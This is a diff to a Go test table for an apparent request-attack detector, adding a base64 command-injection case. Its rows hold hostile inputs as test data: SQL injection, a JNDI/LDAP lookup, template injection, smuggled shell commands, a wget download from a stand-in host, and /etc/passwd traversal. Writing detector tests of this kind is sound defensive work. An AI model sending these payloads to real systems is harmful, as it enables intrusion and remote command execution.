@@ -229,6 +229,7 @@ func TestSignsAreReadAndOddButHonestQueriesShowNone(t *testing.T) {
 		{"/a", "name=x'%20or%20'1'='1", "", Injection},
 		{"/a", "x=${jndi:ldap://e/a}", "", Injection},
 		{"/a", "x={{7*7}}", "", Injection},
+		{"/a", "login=$(echo${IFS}aWQ=|base64${IFS}-d)", "", Injection},
 		{"/a", "ip=1.1.1.1;wget%20http://e/x", "", Injection},
 		{"/a", "f=..%2f..%2fetc/passwd", "", Traversal},
 		{"/../../x", "", "", Traversal},
